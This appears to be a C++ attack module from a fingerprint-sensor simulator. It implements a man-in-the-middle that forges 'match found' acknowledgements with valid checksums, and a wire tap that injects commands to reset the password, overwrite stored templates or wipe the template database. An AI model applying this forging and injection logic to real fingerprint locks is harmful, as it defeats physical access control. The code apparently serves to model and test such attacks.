#include "fingerprint/attacks.h"

#include <algorithm>

#include "codes.h"

namespace strongroom::fingerprint {

namespace {

constexpr std::size_t header_bytes = 9;

// How long the packet is that begins with `bytes`; none while that cannot be told.
std::optional<std::size_t> packet_bytes(const std::vector<std::byte>& bytes) {
    if (bytes.size() < header_bytes) return std::nullopt;
    return header_bytes +
           (std::to_integer<std::size_t>(bytes[7]) << 8U | std::to_integer<std::size_t>(bytes[8]));
}

std::vector<std::byte> packet_of(std::span<const std::byte> address, std::uint8_t kind,
                                 std::span<const std::byte> payload) {
    std::vector<std::byte> out;
    const auto put = [&](std::size_t number) { out.push_back(std::byte(number & 0xFFU)); };
    put(0xEF);
    put(0x01);
    for (const std::byte byte : address) out.push_back(byte);
    const std::size_t length = payload.size() + 2;
    put(kind);
    put(length >> 8U);
    put(length);
    for (const std::byte byte : payload) out.push_back(byte);
    unsigned sum = 0;
    for (std::size_t i = 6; i < out.size(); ++i) sum += std::to_integer<unsigned>(out[i]);
    put(sum >> 8U);
    put(sum);
    return out;
}

std::vector<std::byte> bytes32(std::uint8_t which, std::uint32_t value) {
    return {std::byte{which}, std::byte(value >> 24U), std::byte(value >> 16U & 0xFFU),
            std::byte(value >> 8U & 0xFFU), std::byte(value & 0xFFU)};
}

}  // namespace

// ---- MatchForger -----------------------------------------------------------------------------

Result<void> MatchForger::write(std::span<const std::byte> bytes) {
    const auto written = inner_.write(bytes);
    if (written) listen(bytes);
    return written;
}

void MatchForger::listen(std::span<const std::byte> bytes) {
    for (const std::byte byte : bytes) {
        command_.push_back(byte);
        if (command_[0] != std::byte{0xEF}) command_.clear();
        const auto whole = packet_bytes(command_);
        if (!whole || command_.size() < *whole) continue;
        if (command_[6] == std::byte{packet::command}) {
            asked_ = std::to_integer<std::uint8_t>(command_[header_bytes]);
        }
        command_.clear();
    }
}

Result<std::size_t> MatchForger::read(std::span<std::byte> buffer) {
    std::array<std::byte, 256> heard{};
    for (;;) {
        const auto count = inner_.read(heard);
        if (!count) {
            if (ready_.empty()) return count;
            break;
        }
        for (std::size_t i = 0; i < *count; ++i) relay(heard[i]);
        if (*count < heard.size()) break;
    }
    const std::size_t count = std::min(buffer.size(), ready_.size());
    std::copy_n(ready_.begin(), count, buffer.begin());
    ready_.erase(ready_.begin(), ready_.begin() + static_cast<std::ptrdiff_t>(count));
    return count;
}

void MatchForger::relay(std::byte byte) {
    if (answer_.empty() && byte != std::byte{0xEF}) {
        ready_.push_back(byte);
        return;
    }
    answer_.push_back(byte);
    const auto whole = packet_bytes(answer_);
    if (whole && answer_.size() >= *whole) pass_packet();
}

void MatchForger::pass_packet() {
    std::vector<std::byte> payload;
    const auto value = [&](unsigned number) {
        payload.push_back(std::byte(number >> 8U & 0xFFU));
        payload.push_back(std::byte(number & 0xFFU));
    };
    const bool acknowledges = answer_[6] == std::byte{packet::acknowledge};
    if (acknowledges && (asked_ == instruction::search || asked_ == instruction::fast_search)) {
        payload.push_back(std::byte{code::ok});
        value(claim_.page);
        value(claim_.score);
    } else if (acknowledges && asked_ == instruction::match) {
        payload.push_back(std::byte{code::ok});
        value(claim_.score);
    } else if (acknowledges && claim_.without_finger &&
               (asked_ == instruction::generate_image ||
                asked_ == instruction::image_to_features)) {
        payload.push_back(std::byte{code::ok});
    }
    if (!payload.empty()) {
        answer_ = packet_of(std::span(answer_).subspan(2, 4), packet::acknowledge, payload);
        ++forged_;
    }
    ready_.insert(ready_.end(), answer_.begin(), answer_.end());
    answer_.clear();
}

// ---- WireTap ---------------------------------------------------------------------------------

void WireTap::put(std::uint8_t kind, std::span<const std::byte> payload) {
    const std::uint32_t address = module_.address();
    const auto number = bytes32(0, address);
    const auto wire = packet_of(std::span(number).subspan(1), kind, payload);
    for (const std::byte byte : wire) {
        now_ += Duration(10'000'000'000LL / module_.baud());
        module_.receive(now_, byte, module_.baud());
    }
}

std::optional<std::vector<std::byte>> WireTap::command(std::span<const std::byte> payload) {
    put(packet::command, payload);
    const Instant end = module_.last_output();
    if (end == never) return std::nullopt;
    std::vector<std::byte> answer;
    while (const auto sent = module_.take_output(end)) answer.push_back(sent->byte);
    now_ = end;
    const auto whole = packet_bytes(answer);
    if (!whole || answer.size() < *whole || *whole < header_bytes + 3) return std::nullopt;
    return std::vector<std::byte>(answer.begin() + header_bytes,
                                  answer.begin() + static_cast<std::ptrdiff_t>(*whole - 2));
}

void WireTap::send_data(std::span<const std::byte> bytes) {
    constexpr std::size_t size = 128;
    for (std::size_t done = 0; done < bytes.size();) {
        const std::size_t count = std::min(size, bytes.size() - done);
        put(done + count == bytes.size() ? packet::end_of_data : packet::data,
            bytes.subspan(done, count));
        done += count;
    }
}

bool WireTap::succeeds(std::span<const std::byte> payload) {
    const auto answer = command(payload);
    return answer && answer->front() == std::byte{code::ok};
}

bool WireTap::verify(std::uint32_t password) {
    return succeeds(bytes32(instruction::verify_password, password));
}

bool WireTap::set_password(std::uint32_t password) {
    return succeeds(bytes32(instruction::set_password, password));
}

bool WireTap::overwrite(std::uint16_t page, const FingerTemplate& with) {
    const std::array down{std::byte{instruction::download_features}, std::byte{1}};
    if (!succeeds(down)) return false;
    send_data(with);
    const std::array store{std::byte{instruction::store}, std::byte{1}, std::byte(page >> 8U),
                           std::byte(page & 0xFFU)};
    return succeeds(store);
}

bool WireTap::empty() {
    const std::array all{std::byte{instruction::empty}};
    return succeeds(all);
}

std::optional<FingerTemplate> template_of(Fingers& fingers, std::uint64_t person,
                                          std::uint8_t finger) {
    std::array<CharacterFile, 2> files{};
    for (std::size_t i = 0; i < files.size(); ++i) {
        FingerPresentation laying = laid_down(person, 1000 + i, Material::skin, 0.2);
        laying.finger = finger;
        const Extracted found = extract(capture(fingers, laying, i));
        if (found.outcome != Extraction::good) return std::nullopt;
        files[i] = to_character_file(found.minutiae);
    }
    return to_template(files[0], files[1]);
}

}  // namespace strongroom::fingerprint
